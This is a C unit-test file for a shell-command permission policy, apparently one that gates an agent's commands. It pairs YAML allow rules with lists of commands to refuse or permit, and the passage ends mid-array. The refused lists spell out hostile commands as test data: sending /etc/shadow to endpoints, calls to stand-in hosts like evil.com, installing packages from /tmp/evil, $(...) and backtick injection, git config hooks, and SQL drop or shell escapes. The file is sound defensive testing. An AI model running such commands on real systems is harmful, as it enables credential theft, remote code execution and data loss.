/* What the words of a rule's pattern stand for: a permission never for more than its author reads in it, a restriction for every way to say it. */
#include "tests/unit/policy_ask.h"

static const char permits[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly, core.protected-paths, core.destructive]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"python3 /opt/app/**\", \"perl /opt/app/*.pl\", \"app-tail -n * /var/log/**\", \"tar -czf /srv/bak/*.tgz /srv/app/**\", \"rsync -a /srv/build/** /srv/app/**\",\n"
	"            \"vim /srv/app/*\", \"make -C /srv/app *\", \"dd if=/srv/a of=/srv/b/*\", \"watch app-status *\", \"ssh web1 systemctl restart *\", \"git -C /srv/app switch *\",\n"
	"            \"curl -fsS -o /srv/dl/** http://localhost/*\", \"rm -r /srv/app/**\", \"cp /srv/build/* /srv/app/\", \"chmod 644 /srv/app/*\", \"mkdir -p /srv/app/**\",\n"
	"            \"app-x /srv/in/**\", \"app-ctl * now\", \"app-e -- *\", \"kill -HUP *\", \"truncate -s * /srv/out/*\", \"app --config=/srv/conf/* start\", \"systemctl restart *\",\n"
	"            \"timeout 9 python3 /opt/app/*\", \"app-z ~/in/**\", \"git -C /srv/app commit **\", \"docker restart *\", \"mv /srv/app/* /srv/old/\", \"app-log **\",\n"
	"            \"app-any **/x.conf\", \"git push origin *\", \"apt-get install *\", \"journalctl -u * -f\", \"touch /srv/app/**\", \"rm ~/tmp/*\"]\n";

static const char *const refused[] = {
	/* a relative word that is no path, or may be none */
	"cd /opt/app && python3 '-cimport os'", "cd /opt/app && python3 x.py", "cd /opt/app && perl '-esystem(1);#.pl'", "cd /var/log && app-tail -n 5 --exec=/tmp/x",
	"cd /srv/bak && tar -czf evil:a.tgz /srv/app/x", "cd /srv/bak && tar -czf a=b.tgz /srv/app/x", "cd /srv/app && rsync -a /srv/build/x evil:x", "cd /srv/app && rsync -a /srv/build/x u@evil:x",
	"cd /srv/app && vim '+!touch x'", "cd /srv/in && app-x --out=y", "cd /srv/in && app-x y", "cd /srv/in && app-x @y", "cd /srv/in && app-x 'http://a/y'",
	"cd /opt/app && timeout 9 python3 '-cimport os'", "cd /opt/app && timeout 9 python3 x", "cd ~/in && app-z -x", "cd ~/in && app-z x", "cd /srv && app-any -/x.conf",
	"cd /srv/in && app-x ''", "cd /srv/app && rm -r ''", "cd /srv/app && vim ''",
	/* a star is no option */
	"make -C /srv/app '--eval=$(shell touch x)'", "make -C /srv/app -f/tmp/x", "app-ctl -x now", "app-ctl --x now", "app-e * --", "kill -HUP -1", "app-tail -n -5 /var/log/x",
	"app-e -x", "app-ctl - now", "git push origin --force", "git push origin -f", "apt-get install -oDir=x", "systemctl restart --root=/x", "docker restart -x",
	/* nor the way out */
	"dd if=/srv/a of=/srv/b/../../etc/x", "app --config=/srv/conf/../x start", "app-ctl .. now", "app-ctl a:../x now", "app-ctl a,.. now", "rm -r /srv/app/x/..", "rm ~/tmp/..",
	/* nor shell syntax */
	"watch app-status '; touch x'", "watch app-status '$(touch x)'", "watch app-status 'a b'", "watch app-status '>x'", "watch app-status '~'", "watch app-status 'a*'",
	"ssh web1 systemctl restart 'x; y'", "ssh web1 systemctl restart 'x y'", "ssh web1 systemctl restart '`y`'",
	/* what curl makes of a name; whose option it is */
	"curl -fsS -o '/srv/dl/#1/x' 'http://localhost/{..}'", "curl -fsS -o '/srv/dl/x#2' http://localhost/x",
	"cd /srv && git switch -C app main", "git switch -C /srv/app main",
};

static const char *const permitted[] = {
	"python3 /opt/app/x.py", "python3 /opt/app/x/y.py", "cd /opt/app && python3 /opt/app/x.py", "perl /opt/app/x.pl", "app-tail -n 5 /var/log/x", "app-tail -n +5 /var/log/a/b.log",
	"tar -czf /srv/bak/a.tgz /srv/app/x", "cd /srv/bak && tar -czf a.tgz /srv/app/x", "cd /srv && tar -czf bak/a-1.2.tgz app/x", "tar -czf /srv/bak/a:b.tgz /srv/app/x",
	"rsync -a /srv/build/x /srv/app/x", "cd /srv/build && rsync -a x /srv/app/", "cd /srv && rsync -a build/x app/x", "cd /srv/build && rsync -a ./x /srv/app/x",
	"make -C /srv/app deploy", "make -C /srv/app x/y.o", "dd if=/srv/a of=/srv/b/x", "dd if=/srv/a of=/srv/b/x..y",
	"watch app-status web-1", "watch app-status a.b:8080/x", "watch app-status k=v", "ssh web1 systemctl restart nginx", "ssh web1 systemctl restart app@1.service",
	"git -C /srv/app switch main", "cd /srv && git -C app switch feature/x", "git -C /srv/app switch v1..2", "git -C /srv/app commit -m 'a; b'",
	"curl -fsS -o /srv/dl/x http://localhost/x", "curl -fsS -o /srv/dl/x/y 'http://localhost/x#1'", "cd /srv/dl && curl -fsS -o x http://localhost/x",
	"rm -r /srv/app/cache/x", "cd /srv/app && rm -r cache/x", "cd /srv/app && rm -r cache", "cd /srv/app && rm -r ./cache", "cd /srv/app && rm -r .cache", "cd /srv && rm -r app/_x",
	"cd /srv/app && rm -r 1.2", "cd /srv/app && rm -r -- cache/x", "rm --recursive /srv/app/x", "cp /srv/build/x /srv/app/", "cd /srv/build && cp x /srv/app/",
	"chmod 644 /srv/app/x", "cd /srv/app && chmod 644 x", "mkdir -p /srv/app/x/y", "cd /srv/app && mkdir -p x/y", "app-x /srv/in/a", "app-x /srv/in/a/b:c", "app-x '/srv/in/a=b'",
	"app-ctl db now", "app-ctl a.b now", "app-ctl ... now", "app-ctl a..b now", "app-e -- x", "app-e -- -x", "kill -HUP 123", "truncate -s 0 /srv/out/x", "truncate -s -5 /srv/out/x",
	"cd /srv/out && truncate -s 0 x", "app --config=/srv/conf/x start", "systemctl restart nginx", "systemctl restart app@1", "timeout 9 python3 /opt/app/x", "app-z ~/in/x",
	"docker restart web", "mv /srv/app/x /srv/old/", "cd /srv/app && mv x /srv/old/", "app-log -x ../y", "app-log", "app-any /srv/x.conf", "app-any ./x.conf", "cd /srv && app-any a/x.conf",
	"git push origin main", "git push origin HEAD:main", "apt-get install nginx", "apt-get install nginx=1.2-3", "journalctl -u nginx -f", "journalctl -f -u nginx", "touch /srv/app/x",
	"cd /srv/app && touch x/y", "rm ~/tmp/x", "ls -la /srv", "grep -r x /srv/app",
};

/* Where a star stands in a language, a list, a host or a name. */
static const char stars[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"curl -fsS https://*.example.com/*\", \"git clone https://*.corp.io/x /srv/x\", \"docker pull *.corp.io/app\", \"rsync -a /srv/a/ *:/b/\", \"kubectl apply -f /srv/k8s/**\",\n"
	"            \"java -cp /opt/app/** Main\", \"make -C /srv/app *\", \"make deploy VERSION=*\", \"sed -i s/*/*/ /srv/app/conf\", \"helm upgrade app /srv/charts/app --set image.tag=*\",\n"
	"            \"apt-get install -y *\", \"systemctl enable --now *\", \"git push origin *\", \"./deploy.sh *\", \"python3 scripts/x.py\", \"/opt/tool/run *\", \"curl -F file=* http://localhost/up\",\n"
	"            \"git switch feature/*\", \"psql -h *.db.internal -c 'select 1'\", \"ansible-playbook -i /srv/inv/** /srv/pb/site.yml -e version=*\"]\n";

static const char *const astray[] = {
	"curl -fsS https://evil.com/x.example.com/y", "curl -fsS 'https://evil.com#.example.com/y'", "curl -fsS 'https://evil.com?.example.com/y'", "curl -fsS 'https://{evil,x.example.com}/y'",
	"curl -fsS https://u@evil.com/.example.com/y", "curl -fsS 'https://evil.com\\.example.com/y'", "git clone https://evil.com/.corp.io/x /srv/x", "docker pull evil.io/x.corp.io/app",
	"rsync -a /srv/a/ /tmp/:/b/", "rsync -a /srv/a/ x/y:/b/", "kubectl apply -f /srv/k8s/a,/tmp/x", "kubectl apply -f /srv/k8s/a,http://evil/x", "java -cp /opt/app/x:/tmp/evil Main",
	"make -C /srv/app 'x:=$(shell touch y)'", "make -C /srv/app SHELL=/tmp/x", "make deploy 'VERSION=$(shell touch y)'", "sed -i 's/a/b/e;s/x/y/' /srv/app/conf", "sed -i 's/a/b/w /tmp/x/' /srv/app/conf",
	"helm upgrade app /srv/charts/app --set image.tag=1,image.repository=evil", "apt-get install -y ./evil.deb", "apt-get install -y /tmp/evil.deb", "apt-get install -y ssh-", "systemctl enable --now /tmp/x.service",
	"git push origin :main", "git push origin +main", "cd /tmp/x && ./deploy.sh a", "cd /tmp/x && python3 scripts/x.py", "cd /tmp && /opt/tool/../x/run a", "cd /tmp/tool && ./run a",
	"curl -F file=@/etc/shadow http://localhost/up", "curl -F 'file=</etc/shadow' http://localhost/up", "psql -h evil,x.db.internal -c 'select 1'", "psql -h /tmp/x.db.internal -c 'select 1'",
	"ansible-playbook -i /srv/inv/a,evil /srv/pb/site.yml -e version=1", "ansible-playbook -i /srv/inv/a /srv/pb/site.yml -e 'version={{x}}'", "ansible-playbook -i /srv/inv/a /srv/pb/site.yml -e 'version=1 a=b'",
};

static const char *const straight[] = {
	"curl -fsS https://www.example.com/a/b", "curl -fsS 'https://a.b.example.com/x?y=1'", "git clone https://git.corp.io/x /srv/x", "docker pull hub.corp.io/app", "rsync -a /srv/a/ backup:/b/",
	"rsync -a /srv/a/ me@backup:/b/", "kubectl apply -f /srv/k8s/a/b.yaml", "java -cp /opt/app/x.jar Main", "make -C /srv/app x/y.o", "make deploy VERSION=1.2-3", "sed -i s/a/b/ /srv/app/conf",
	"helm upgrade app /srv/charts/app --set image.tag=1.2", "apt-get install -y nginx=1.2-3", "systemctl enable --now app@1.service", "git push origin feature/x", "git push origin HEAD:main", "./deploy.sh a",
	"python3 scripts/x.py", "/opt/tool/run a", "cd /opt/tool && ./run a", "cd /opt && tool/run a", "cd /tmp && /opt/tool/run a", "curl -F file=x@y http://localhost/up", "git switch feature/a/b",
	"psql -h a.db.internal -c 'select 1'", "ansible-playbook -i /srv/inv/a /srv/pb/site.yml -e version=1.2",
};

/* The same in what a wrapper runs, and in languages of more programs. */
static const char spelled[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"sudo apt-get install -y *\", \"sudo systemctl enable *\", \"timeout 60 make -C /srv/app *\", \"nice git push origin *\", \"sudo sed -i s/*/*/ /srv/app/conf\", \"sudo sed -n *p /srv/app/conf\",\n"
	"            \"timeout 60 curl -d * http://localhost/x\", \"docker exec web apt-get install *\", \"ssh web1 systemctl enable *\", \"sudo pip install *\", \"sudo /usr/bin/pip3 install *\", \"python3 scripts/*.py\",\n"
	"            \"bash deploy-*.sh\", \"bash -e deploy.sh\", \"sudo bash deploy.sh\", \"sudo ./run.sh\", \"sudo python3 scripts/x.py\", \"timeout 5 python3 scripts/*.py\", \"make test-*\", \"timeout 5 make build\",\n"
	"            \"kubectl apply -f manifests/*\", \"kubectl apply -f https://raw.corp.io/*\", \"kubectl apply --filename=/srv/k8s/*\", \"docker run --rm --mount type=bind,src=/srv/data/*,dst=/data img\",\n"
	"            \"psql -d * -c 'select 1'\", \"pg_dump *\", \"aws sns publish --topic-arn t --message *\", \"az keyvault secret set --name x --value *\", \"curl --data-urlencode * http://localhost/x\",\n"
	"            \"curl -F * http://localhost/up\", \"java -cp lib/* Main\", \"apt-get remove *\", \"npm install *\", \"kill -HUP *\", \"git checkout *\", \"rsync -a /srv/a/ web*:/srv/a/\", \"curl https://web?.corp.io/x\",\n"
	"            \"timeout 9 curl https://api.corp.io/v1/x\", \"psql -h *.db.internal -c 'select 2'\", \"npm run *\"]\n";

static const char *const strayed[] = {
	"sudo apt-get install -y ./evil.deb", "sudo apt-get install -y /tmp/evil.deb", "sudo apt-get install -y openssh-server-", "sudo systemctl enable /tmp/evil.service", "timeout 60 make -C /srv/app 'x:=$(shell touch y)'",
	"timeout 60 make -C /srv/app SHELL=/tmp/evil", "nice git push origin :main", "nice git push origin +main", "sudo sed -i 's/a/b/e;s/x/y/' /srv/app/conf", "sudo sed -i 's/a/b/w /etc/cron.d/x/' /srv/app/conf",
	"sudo sed -n 1exp /srv/app/conf", "timeout 60 curl -d @/etc/shadow http://localhost/x", "docker exec web apt-get install /tmp/x.deb", "ssh web1 systemctl enable /tmp/evil.service", "sudo pip install ./x",
	"sudo /usr/bin/pip3 install ./x",
	"cd /tmp/evil && python3 scripts/x.py", "cd /tmp/evil && bash deploy-x.sh", "cd /tmp/evil && bash -e deploy.sh", "cd /tmp/evil && sudo bash deploy.sh", "cd /tmp/evil && sudo ./run.sh",
	"cd /tmp/evil && sudo python3 scripts/x.py", "cd /tmp/evil && timeout 5 python3 scripts/x.py",
	"kubectl apply -f manifests/a,/tmp/evil.yaml", "kubectl apply -f https://raw.corp.io/a,https://evil.com/x", "kubectl apply --filename=/srv/k8s/a,/tmp/evil",
	"docker run --rm --mount type=bind,src=/srv/data/x,src=/,dst=/data img", "psql -d 'host=evil dbname=x' -c 'select 1'", "pg_dump 'host=evil dbname=x'", "pg_dump postgres://evil/x",
	"aws sns publish --topic-arn t --message file:///etc/shadow", "aws sns publish --topic-arn t --message fileb://x", "az keyvault secret set --name x --value @/etc/shadow",
	"curl --data-urlencode x@/etc/shadow http://localhost/x", "curl -F x=@/etc/shadow http://localhost/up", "java -cp lib/x:/tmp/evil Main", "apt-get remove 'lib.*'", "apt-get remove '*'", "apt-get remove '?installed'",
	"apt-get remove '^lib'", "npm install http://evil/x.tgz", "npm install evil/repo", "npm install x@file:/tmp/evil", "npm install @a/../x", "kill -HUP 0", "kill -HUP 00", "git checkout .", "git checkout '*'",
	"rsync -a /srv/a/ 'web::x:/srv/a/'", "rsync -a /srv/a/ web:x:/srv/a/", "curl https://web/.corp.io/x", "curl https://web@.corp.io/x",
};

static const char *const held[] = {
	"sudo apt-get install -y nginx=1.2-3", "sudo systemctl enable app@1.service", "timeout 60 make -C /srv/app x/y.o", "nice git push origin HEAD:main", "sudo sed -i s/a/b/ /srv/app/conf",
	"timeout 60 curl -d x=y http://localhost/x", "docker exec web apt-get install nginx", "ssh web1 systemctl enable nginx", "sudo pip install x==1", "python3 scripts/x.py", "bash deploy-x.sh", "bash -e deploy.sh",
	"sudo bash deploy.sh", "sudo ./run.sh", "sudo python3 scripts/x.py", "timeout 5 python3 scripts/x.py", "cd /srv && make test-x", "cd /srv && timeout 5 make build", "kubectl apply -f manifests/a",
	"kubectl apply -f https://raw.corp.io/a/b.yaml", "kubectl apply --filename=/srv/k8s/a", "docker run --rm --mount type=bind,src=/srv/data/x,dst=/data img", "psql -d app -c 'select 1'", "pg_dump app",
	"aws sns publish --topic-arn t --message 'a b'", "az keyvault secret set --name x --value a", "curl --data-urlencode x=y http://localhost/x", "curl -F x=y http://localhost/up", "java -cp lib/x.jar Main",
	"apt-get remove vim", "npm install x@1.2", "npm install @a/x@1.2", "kill -HUP 10", "git checkout main", "git checkout feature/x", "rsync -a /srv/a/ web1:/srv/a/", "curl https://web1.corp.io/x",
	"cd /srv && timeout 9 curl https://api.corp.io/v1/x", "cd /srv && psql -h a.db.internal -c 'select 2'", "npm run build:x",
};

/* What ** behind a subcommand stands for: not for the options of the tool itself, which stand before that. */
static const char fronts[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"git {status,pull,log,lfs} **\", \"docker {ps,logs,restart} **\", \"docker compose up **\", \"kubectl {get,rollout} **\",\n"
	"            \"apt-get update **\", \"systemctl {restart,status} **\", \"ip addr **\", \"docker -H tcp://ci **\", \"git ** fetch **\",\n"
	"            \"docker run app:1 **\", \"docker run ** app:2\", \"kubectl port-forward svc/x **\"]\n";

static const char *const fronted[] = {
	"git -c core.fsmonitor='touch y' status", "git -c core.sshCommand='touch y' pull", "git --exec-path=/tmp/x pull", "git --git-dir=/tmp/x pull",
	"git -C /tmp/evil pull", "git -C /tmp/evil lfs pull", "docker -H tcp://evil ps", "docker -H tcp://evil restart x", "docker --config /tmp/x logs x",
	"docker -H tcp://x compose up", "docker compose -f /tmp/evil.yml up", "docker -Htcp://evil ps", "kubectl --kubeconfig=/tmp/x get pods",
	"kubectl -s http://evil get pods", "kubectl --kubeconfig /tmp/x rollout restart x", "apt-get -o APT::Update::Pre-Invoke::='touch y' update",
	"systemctl -H evil restart app", "systemctl --root=/x restart app", "ip -b /tmp/x addr", "git -c x=y log", "kubectl --kubecon=/tmp/x get pods",
	"docker -D -H tcp://evil ps", "ip -force addr", "docker -H tcp://evil -H tcp://evil logs x", "git --foo pull", "docker run --privileged app:1 x",
	"docker run -itv/:/h app:1",
};

static const char *const behind[] = {
	"git status -sb", "git --no-pager log -5", "git --no-pager status", "docker -D ps -a", "docker logs -f x", "docker compose up -d", "docker compose up -f x",
	"kubectl -n prod get pods", "kubectl get pods -A", "kubectl --context x get pods -o yaml", "kubectl -n prod rollout restart x", "apt-get -y update",
	"apt-get -q -s update", "systemctl --no-pager restart app", "systemctl --no-pager status nginx", "ip -4 addr show", "ip -br -c addr", "git lfs pull",
	"docker -H tcp://ci restart x", "docker -H tcp://ci logs x", "git -c x=y fetch", "git fetch", "docker compose -p x --profile y up -d",
	"kubectl --request-timeout 5 get pods", "docker run app:1 --privileged", "docker -D run app:1 x", "docker run --privileged app:2",
	"kubectl -n x port-forward svc/x 80:80",
};

/* An argument that the pattern gives an option is the one that it has, wherever ** lets it be given again. */
static const char fixed[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"helm -n dev **\", \"kubectl -n dev **\", \"git -C /srv/app push **\", \"ansible-playbook -i inventory/dev **\", \"aws --profile dev **\",\n"
	"            \"gcloud --project dev **\", \"wget -P /srv/dl **\", \"docker compose -f /srv/app/compose.yml **\",\n"
	"            \"terraform -chdir=/srv/app plan **\", \"psql -Uapp **\", \"python3 -m app **\", \"npm install -g **\",\n"
	"            \"docker compose -f a.yml -f b.yml **\", \"mysql -h db1 -e *\", \"make -C /srv/app **\",\n"
	"            \"bash -e deploy.sh **\", \"java -cp /opt/app/lib **\", \"gcloud --account=a **\", \"aws s3 ls --region eu **\"]\n";

static const char *const given_again[] = {
	"kubectl -n dev delete pod x -n prod", "kubectl -n dev delete pod x -nprod", "kubectl -n dev rollout restart x -n=prod", "kubectl -n dev rollout restart x --namespace=prod",
	"kubectl -n dev rollout restart x --namespace prod", "kubectl -n dev neat x -n prod", "kubectl -n dev delete pod -An prod", "git -C /srv/app -C /tmp/evil push",
	"ansible-playbook -i inventory/dev -i inventory/prod x.yml", "ansible-playbook -i inventory/dev --inventory inventory/prod x.yml",
	"ansible-playbook -i inventory/dev -vi inventory/prod x.yml", "ansible-playbook -i inventory/dev --inv=inventory/prod x.yml",
	"helm -n dev uninstall x --namespace prod", "helm -n dev template x --namespace prod", "aws --profile dev s3 rb s3://x --profile prod",
	"aws --profile dev s3 rb s3://x --prof=prod", "gcloud --project dev compute x --project prod", "wget -P /srv/dl -P /etc http://x/y",
	"docker compose -f /srv/app/compose.yml -f /tmp/evil.yml up", "terraform -chdir=/srv/app plan -chdir=/tmp", "terraform -chdir=/srv/app plan --chdir=/tmp",
	"psql -Uapp -Upostgres -c x", "psql -Uapp -AU postgres -c x", "psql -Uapp -U postgres -c x", "psql -Uapp --username=postgres -c x", "kubectl -n dev delete pod $x",
	"ansible-playbook -i inventory/dev $x", "docker compose -f a.yml -f c.yml up", "make -C /srv/app -C /tmp x", "make -C /srv/app --directory=/tmp x",
	"mysql -h db1 -h db2 -e x", "kubectl -n dev delete pod x $(echo -nprod)", "kubectl -n dev exec -n prod web -- ls", "kubectl --namespace prod -n dev delete pod x",
	"java -cp /opt/app/lib -cp /tmp/evil Main", "gcloud --account=a x --account b", "aws s3 ls --region eu --region=us",
};

static const char *const given_once[] = {
	"kubectl -n dev delete pod x", "kubectl -n dev delete pod x -n dev", "kubectl -n dev get pod x -o yaml", "git -C /srv/app push origin main",
	"git -C /srv/app push -C x", "ansible-playbook -i inventory/dev x.yml -e version=1 --limit web", "helm -n dev uninstall x", "aws --profile dev s3 ls",
	"gcloud --project dev compute x", "wget -P /srv/dl http://x/y", "docker compose -f /srv/app/compose.yml up -d",
	"docker compose -f /srv/app/compose.yml logs --tail 5 web", "terraform -chdir=/srv/app plan -out=x", "psql -Uapp -c 'select 1'", "python3 -m app -x",
	"npm install -g x", "docker compose -f a.yml -f b.yml up", "make -C /srv/app -j4 x", "kubectl -n dev delete pod x --wait", "kubectl -n dev exec web -- ls -n",
	"bash -e deploy.sh -e prod", "python3 -m app -m x", "java -cp /opt/app/lib Main -x", "kubectl -n dev delete pod -- \"$x\"", "kubectl -n dev exec web -- tail -n 5 x",
	"for p in a b; do kubectl -n dev delete pod $p; done", "kubectl -n dev apply -f k8s/*.yaml", "gcloud --account=a compute x --format=json",
};

/* A star in what a shell or an interpreter reads: a recipe, the text behind -c, a command for another host. */
static const char texts[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"make deploy ENV=*\", \"just deploy *\", \"task deploy *\", \"rake deploy[*]\", \"ansible-playbook site.yml -e version=*\",\n"
	"            \"sh -c deploy\\\\ *\", \"timeout 9 bash -ec deploy\\\\ *\", \"su app -c deploy\\\\ *\", \"sh -c /opt/x\\\\ *\",\n"
	"            \"gcloud compute ssh web --command systemctl\\\\ status\\\\ *\", \"gcloud compute ssh web --command=systemctl\\\\ status\\\\ *\",\n"
	"            \"python3 -c print\\\\ *\", \"bash run.sh *\", \"make *\",\n"
	"            \"sh -c -- reload\\\\ *\", \"sh -c -x reload\\\\ *\", \"docker exec web sh -c reload\\\\ *\"]\n";

static const char *const injected[] = {
	"make deploy 'ENV=x;touch y'", "make deploy 'ENV=`reboot`'", "make deploy 'ENV=x|y'", "make deploy 'ENV=x&y'", "make 'x;touch y'", "just deploy 'x;touch y'",
	"just deploy '$(touch y)'", "task deploy 'x;touch y'", "rake 'deploy[x;touch y]'", "ansible-playbook site.yml -e 'version=`reboot`'", "sh -c 'deploy x; touch y'",
	"sh -c 'deploy $(touch y)'", "timeout 9 bash -ec 'deploy x; touch y'", "su app -c 'deploy x; touch y'", "sh -c '/opt/x y; touch z'",
	"gcloud compute ssh web --command 'systemctl status x; touch y'", "gcloud compute ssh web --command='systemctl status x; touch y'",
	"python3 -c 'print 1; import os'", "sh -c -- 'reload x; y'", "sh -c -x 'reload x; y'", "docker exec web sh -c 'reload x; y'",
};

static const char *const plain_text[] = {
	"make deploy ENV=prod", "make deploy ENV=a.b-1/x", "just deploy prod", "task deploy prod", "rake 'deploy[prod]'", "ansible-playbook site.yml -e version=1.2",
	"sh -c 'deploy x'", "su app -c 'deploy x'", "timeout 9 bash -ec 'deploy x'", "sh -c '/opt/x y'", "gcloud compute ssh web --command 'systemctl status x'",
	"gcloud compute ssh web --command='systemctl status x'", "bash run.sh 'a b; c'", "make x/y.o", "sh -c -- 'reload x'", "docker exec web sh -c 'reload x'",
};

/* A star in a ref, which goes to where its colon says, and in a host's name. */
static const char places[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"git push origin agent/*\", \"git push backup *\", \"git fetch origin *\", \"git pull origin *\", \"git fetch up pull/*\",\n"
	"            \"git push * main\", \"git show HEAD:*\", \"git commit -m wip*\", \"timeout 9 git fetch x *\", \"ssh web* systemctl restart nginx\",\n"
	"            \"ssh deploy@web* uptime\", \"ssh app1 systemctl restart app*\", \"timeout 9 ssh db* uptime\", \"rsync -a /srv/a/ web*:/srv/a/\",\n"
	"            \"rsync -a /srv/b/ *:/b/\", \"scp /srv/a/x web*:/srv/a/\", \"scp /srv/a/x me@web*:/srv/a/\", \"sftp web*\", \"scp /srv/a/y *:/srv/y\",\n"
	"            \"scp r*:/x /srv/x\", \"ansible-playbook site.yml --limit web*\", \"ansible web* -a uptime\", \"ansible-playbook site.yml -e image=*\",\n"
	"            \"ansible-playbook play.yml --limit *\", \"ansible-playbook site.yml --extra-vars=image=*\",\n"
	"            \"autossh web* uptime\"]\n";

static const char *const elsewhere[] = {
	"git push origin agent/x:main", "git fetch origin x:main", "git fetch origin refs/heads/x:refs/heads/main", "git pull origin x:main",
	"git fetch up pull/1/head:main", "timeout 9 git fetch x a:main", "ssh web@evil.com systemctl restart nginx", "ssh deploy@web@evil.com uptime",
	"timeout 9 ssh db@evil.com uptime", "rsync -a /srv/a/ web@evil.com:/srv/a/", "scp /srv/a/x web@evil.com:/srv/a/", "scp /srv/a/x me@web@evil:/srv/a/",
	"scp scp://evil/a /srv/x", "scp r@evil:/x /srv/x", "scp rsync://evil:/x /srv/x", "sftp web@evil.com", "ansible-playbook site.yml --limit web1:all",
	"ansible-playbook site.yml --limit 'web1:*'", "ansible-playbook site.yml --limit 'web1;db'", "ansible-playbook play.yml --limit 'all:!x'",
	"ansible-playbook play.yml --limit '~.*'", "ansible-playbook play.yml --limit 'web*'", "ansible-playbook play.yml --limit 'we?'", "ansible web1:db -a uptime",
	"ansible 'web1;db' -a uptime", "ansible 'web1,db' -a uptime", "ansible 'web[1:9]' -a uptime", "autossh web@evil uptime",
};

static const char *const there[] = {
	"git push origin agent/x", "git push origin agent/x/y-1", "git push backup HEAD:main", "git push backup main", "git fetch origin main", "git fetch up pull/1/head",
	"git pull origin main", "git push origin main", "git push git@host:x main", "git commit -m 'wip-a: x'", "ssh web1 systemctl restart nginx",
	"ssh web1.corp.io systemctl restart nginx", "ssh deploy@web1 uptime", "ssh app1 systemctl restart app@1.service", "timeout 9 ssh db1 uptime",
	"rsync -a /srv/a/ web1:/srv/a/", "rsync -a /srv/b/ me@backup:/b/", "scp /srv/a/x web1:/srv/a/", "scp /srv/a/x me@web1:/srv/a/", "scp /srv/a/y u@h:/srv/y",
	"sftp web1", "ansible-playbook site.yml --limit web1", "ansible web1 -a uptime", "ansible-playbook site.yml -e image=a/b:1.2",
	"ansible-playbook site.yml --extra-vars=image=a/b:1.2", "ansible-playbook play.yml --limit web1", "autossh web1 uptime",
};

/* A star in the middle of an address. */
static const char addresses[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"curl -X POST http://localhost:9200/*/_refresh\", \"curl http://localhost:9200/_cat/*\", \"curl https://*.example.com/*\",\n"
	"            \"curl http://localhost/a/*/b/*\", \"wget -q -O /srv/x http://localhost/*/x\", \"curl https://web?.corp.io/x\"]\n";

static const char *const redirected[] = {
	"curl -X POST 'http://localhost:9200/_all/_delete_by_query?q=*#/_refresh'", "curl -X POST 'http://localhost:9200/_all/_close/_refresh'",
	"curl -X POST 'http://localhost:9200/x%2f_close%3f/_refresh'", "curl -X POST 'http://localhost:9200/x#/_refresh'", "curl -X POST 'http://localhost/a/x?y=/b/z'",
	"curl 'https://evil.com/?x=.example.com/y'", "wget -q -O /srv/x 'http://localhost/y?z=/x'",
};

static const char *const addressed[] = {
	"curl -X POST http://localhost:9200/logs-1/_refresh", "curl http://localhost:9200/_cat/indices", "curl 'http://localhost:9200/_cat/indices?v&s=index'",
	"curl http://localhost:9200/_cat/indices/x%2ay", "curl 'https://a.b.example.com/x?y=1#z'", "curl 'http://localhost/a/x/b/y?z=1'",
	"wget -q -O /srv/x http://localhost/y/x", "curl https://web1.corp.io/x",
};

/* A star in a statement. */
static const char queries[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"psql -c select\\\\ *\", \"psql -h db1 -c *\", \"mysql app -e select\\\\ *\", \"mariadb -e *\", \"mariadb --execute=*\",\n"
	"            \"sqlite3 app.db select\\\\ *\", \"sqlite3 b.db *\", \"sudo mysql app -e select\\\\ *\"]\n";

static const char *const widened[] = {
	"psql -c 'select 1; drop table x'", "psql -c 'select 1 \\g /tmp/x'", "psql -h db1 -c '\\! touch y'", "psql -h db1 -c '\\copy x to /tmp/y'",
	"mysql app -e 'select 1; system touch y'", "mysql app -e 'select 1; drop table x'", "mysql app -e 'select 1 \\! touch y'",
	"sudo mysql app -e 'select 1; drop table x'", "mariadb -e 'system touch y'", "mariadb -e ' SYSTEM touch y'", "mariadb -e 'source /tmp/x'",
	"mariadb -e '\\! touch y'", "mariadb -e 'delimiter x'", "sqlite3 app.db 'select 1; drop table x' </dev/null", "sqlite3 b.db '.shell touch y' </dev/null",
	"mariadb '--execute=system touch y'", "psql -c 'select 1;;drop table x'", "mysql app -e 'select 1; drop table x;'",
};

static const char *const asked[] = {
	"psql -c 'select 1'", "psql -c 'select count(*) from x'", "psql -h db1 -c 'vacuum x'", "mysql app -e 'select 1'",
	"mysql app -e 'select count(*) from x where a=1'", "sudo mysql app -e 'select 1'", "mariadb -e 'show tables'", "sqlite3 app.db 'select 1' </dev/null",
	"sqlite3 b.db 'vacuum' </dev/null", "mariadb '--execute=show tables' </dev/null", "psql -c 'select 1;'", "mysql app -e 'select 1; '",
};

/* A star for a package, an image or a manifest. */
static const char packages[] =
	"version: 1\n"
	"profile: enforce\n"
	"packs: [core.readonly]\n"
	"rules:\n"
	"  - id: op\n"
	"    allow: [\"npm install *\", \"sudo pip install *\", \"dnf install -y *\", \"yum install -y *\", \"gem install *\", \"go install *\", \"go test *\",\n"
	"            \"cargo install *\", \"sudo snap install *\", \"docker pull nginx:*\", \"docker run --rm -v data:* img\",\n"
	"            \"docker pull hub.corp.io:5000/app:*\", \"podman pull app:*\", \"kubectl apply -f *\", \"kubectl apply --filename=*\",\n"
	"            \"helm upgrade app *\", \"kubectl annotate svc x url=*\", \"sudo helm repo add corp *\", \"helm upgrade app c --set url=*\",\n"
	"            \"docker run -p 80:* img\", \"sudo pip3 install *.whl\", \"sudo apk add *\", \"npm run *\",\n"
	"            \"podman push app*\"]\n";

static const char *const local[] = {
